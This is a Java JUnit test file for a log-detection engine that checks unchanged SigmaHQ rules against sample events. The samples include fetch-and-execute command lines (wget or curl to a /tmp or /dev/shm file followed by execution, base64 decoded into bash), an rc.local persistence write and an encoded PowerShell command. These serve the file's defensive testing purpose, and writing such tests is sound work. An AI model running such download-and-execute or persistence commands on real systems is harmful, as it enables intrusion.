package dev.keel.detect.rule;

import static dev.keel.detect.TestEvents.event;
import static org.assertj.core.api.Assertions.assertThat;

import dev.keel.detect.TestRules;
import dev.keel.storage.Event;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Real rules from SigmaHQ's repository (see src/test/resources/sigmahq/README.md), loaded unchanged. */
class RealSigmaRulesTest {

    private static final List<String> SUPPORTED = List.of(
            "sigmahq/supported/lnx_shell_susp_commands.yml",
            "sigmahq/supported/proc_creation_lnx_base64_execution.yml",
            "sigmahq/supported/proc_creation_lnx_curl_wget_exec_tmp.yml",
            "sigmahq/supported/proc_creation_win_whoami_execution.yml",
            "sigmahq/supported/proc_creation_win_powershell_base64_frombase64string.yml",
            "sigmahq/supported/correlation_lnx_sshd_brute_force_attempt.yml");
    private static final List<String> UNSUPPORTED = List.of(
            "sigmahq/unsupported/lnx_auth_susp_failed_logons_single_source.yml");

    @TempDir
    Path dir;

    private RuleSet loadSupported() {
        SUPPORTED.forEach(resource -> TestRules.copyResource(resource, dir));
        RuleLoad load = new RuleFixture(dir).load();
        assertThat(load.errors()).isEmpty();
        return load.rules();
    }

    private static DetectionRule rule(RuleSet rules, String id) {
        return rules.detectionRules().stream().filter(r -> r.id().equals(id)).findFirst().orElseThrow();
    }

    @Test
    void supportedRulesLoadUnchangedWithTheirIdsTitlesAndLevels() {
        RuleSet rules = loadSupported();

        assertThat(rules.detectionRules()).extracting(DetectionRule::id).containsExactlyInAnyOrder(
                "2aa1440c-9ae9-4d92-84a7-a9e5f5e31695", "ba592c6d-6888-43c3-b8c6-689b8fe47337",
                "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa", "e28a5a99-da44-436d-b7a0-2afc20a5f413",
                "f698fb2a-f888-4b4f-b309-fcc56d7096b5", "fdb62a13-9a81-4e5c-a38f-ea93a16f6d7c");
        assertThat(rules.correlationRules()).singleElement().satisfies(c -> {
            assertThat(c.id()).isEqualTo("f55634e2-baa3-489b-bbce-0c9818cf62ee");
            assertThat(c.type()).isEqualTo(CorrelationType.EVENT_COUNT);
            assertThat(c.groupBy()).extracting(FieldRef::name).containsExactly("client_ip", "host");
            assertThat(c.timespan()).hasMinutes(15);
            assertThat(c.condition().threshold()).isEqualTo(50);
            assertThat(c.level()).isEqualTo(Level.MEDIUM);
        });
        assertThat(rule(rules, "e28a5a99-da44-436d-b7a0-2afc20a5f413").level()).isEqualTo(Level.LOW);
    }

    @Test
    void theCorrelatedBaseRuleRaisesNoAlertsOfItsOwnAsSigmaSpecifies() {
        RuleSet rules = loadSupported();
        DetectionRule base = rule(rules, "f698fb2a-f888-4b4f-b309-fcc56d7096b5");
        assertThat(rules.alertsOnItsOwn(base)).isFalse();
        assertThat(rules.correlationsFedBy(base)).hasSize(1);
        assertThat(rules.alertsOnItsOwn(rule(rules, "e28a5a99-da44-436d-b7a0-2afc20a5f413"))).isTrue();
    }

    @Test
    void base64offsetFindsFromBase64StringInsideAnEncodedCommand() {
        RuleSet rules = loadSupported();
        DetectionRule encoded = rule(rules, "fdb62a13-9a81-4e5c-a38f-ea93a16f6d7c");
        for (String before : List.of("", "x", "[Text.Encoding]")) {
            String command = Base64.getEncoder().encodeToString((before + "::FromBase64String('aGk=')")
                    .getBytes(StandardCharsets.UTF_8));
            assertThat(RuleFixture.matches(encoded, rules, event("u", "exec", "m", "CommandLine",
                    "powershell -enc " + command))).as(before).isTrue();
        }
        assertThat(RuleFixture.matches(encoded, rules, event("u", "exec", "m", "CommandLine",
                "powershell [Convert]::FromBase64String('aGk=')"))).isFalse();
    }

    @Test
    void keywordRuleWithWildcardsMatchesExploitCommands() {
        RuleSet rules = loadSupported();
        DetectionRule shell = rule(rules, "2aa1440c-9ae9-4d92-84a7-a9e5f5e31695");
        assertThat(RuleFixture.matches(shell, rules, event("u", "a", "cd /tmp; wget http://x/a; chmod +x a"))).isTrue();
        assertThat(RuleFixture.matches(shell, rules, event("u", "a", "echo 1 >>/etc/rc.local"))).isTrue();
        assertThat(RuleFixture.matches(shell, rules, event("u", "a", "ls -la /home"))).isFalse();
    }

    @Test
    void listOfMapsAndAllOfSelectionsMatchProcessCommandLines() {
        RuleSet rules = loadSupported();
        DetectionRule base64 = rule(rules, "ba592c6d-6888-43c3-b8c6-689b8fe47337");
        assertThat(RuleFixture.matches(base64, rules,
                event("u", "exec", "m", "CommandLine", "echo ZWNobw== | base64 -w0 -d |bash"))).isTrue();
        assertThat(RuleFixture.matches(base64, rules,
                event("u", "exec", "m", "CommandLine", "base64 -w0 file.txt"))).isFalse();

        DetectionRule curl = rule(rules, "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa");
        assertThat(RuleFixture.matches(curl, rules,
                event("u", "exec", "m", "CommandLine", "/usr/bin/curl -o /dev/shm/x http://h/x && sh -c /dev/shm/x"))).isTrue();
        assertThat(RuleFixture.matches(curl, rules,
                event("u", "exec", "m", "CommandLine", "/usr/bin/curl -o /dev/shm/x http://h/x"))).isFalse();

        DetectionRule whoami = rule(rules, "e28a5a99-da44-436d-b7a0-2afc20a5f413");
        assertThat(RuleFixture.matches(whoami, rules,
                event("u", "exec", "m", "Image", "C:\\Windows\\System32\\WHOAMI.EXE"))).isTrue();
        assertThat(RuleFixture.matches(whoami, rules, event("u", "exec", "m", "OriginalFileName", "whoami.exe"))).isTrue();
        assertThat(RuleFixture.matches(whoami, rules,
                event("u", "exec", "m", "Image", "C:\\Windows\\System32\\notwhoami.exe"))).isFalse();
    }

    @Test
    void bruteForceBaseRuleNeedsKeywordsTargetedAccountAndPublicAddress() {
        RuleSet rules = loadSupported();
        DetectionRule base = rule(rules, "f698fb2a-f888-4b4f-b309-fcc56d7096b5");
        Event publicAttempt = event("x", "auth", "Failed password for root from 198.51.100.9 port 22",
                "user_name", "root", "deviceProcessName", "sshd", "client_ip", "198.51.100.9");
        Event privateAttempt = event("x", "auth", "Failed password for root from 10.1.2.3 port 22",
                "user_name", "root", "deviceProcessName", "sshd", "client_ip", "10.1.2.3");
        Event loopback6 = event("x", "auth", "Failed password for root",
                "user_name", "root", "deviceProcessName", "sshd", "client_ip", "::1");
        Event success = event("x", "auth", "Accepted publickey for root",
                "user_name", "root", "deviceProcessName", "sshd", "client_ip", "198.51.100.9");
        assertThat(RuleFixture.matches(base, rules, publicAttempt)).isTrue();
        assertThat(RuleFixture.matches(base, rules, privateAttempt)).isFalse();
        assertThat(RuleFixture.matches(base, rules, loopback6)).isFalse();
        assertThat(RuleFixture.matches(base, rules, success)).isFalse();
    }

    @Test
    void rulesOutsideTheSubsetAreRejectedNamingFileAndConstructWhileTheOthersLoad() {
        SUPPORTED.forEach(resource -> TestRules.copyResource(resource, dir));
        UNSUPPORTED.forEach(resource -> TestRules.copyResource(resource, dir));

        RuleLoad load = new RuleFixture(dir).load();

        assertThat(load.rules().detectionRules()).hasSize(6);
        assertThat(load.rules().correlationRules()).hasSize(1);
        assertThat(load.errors()).singleElement().satisfies(error -> {
            assertThat(error.file().getFileName()).hasToString("lnx_auth_susp_failed_logons_single_source.yml");
            assertThat(error.message()).contains("detection.timeframe").contains("correlation rule");
        });
        assertThat(load.errors().getFirst().toString()).startsWith(dir.toString());
    }
}
